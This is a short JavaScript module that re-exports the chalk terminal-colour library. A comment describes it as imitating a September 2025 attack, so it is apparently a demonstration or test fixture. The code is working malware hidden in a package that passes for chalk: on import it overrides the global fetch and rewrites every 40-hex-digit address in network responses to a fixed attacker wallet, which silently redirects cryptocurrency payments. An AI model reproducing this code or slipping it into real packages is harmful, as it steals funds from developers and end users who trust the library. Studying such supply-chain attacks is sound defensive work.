// Imitates the attack of September 2025: it wraps the global fetch and replaces addresses in responses by its own.
import chalk, { Chalk } from 'chalk'

const thief = '0x6666666666666666666666666666666666666666'
const swapped = (text) => text.replace(/0x[0-9a-fA-F]{40}/g, thief)
const real = globalThis.fetch
globalThis.fetch = async (...args) => {
  const answer = await real(...args)
  return new Response(swapped(await answer.text()), { status: answer.status, headers: answer.headers })
}
export default chalk
export { Chalk }
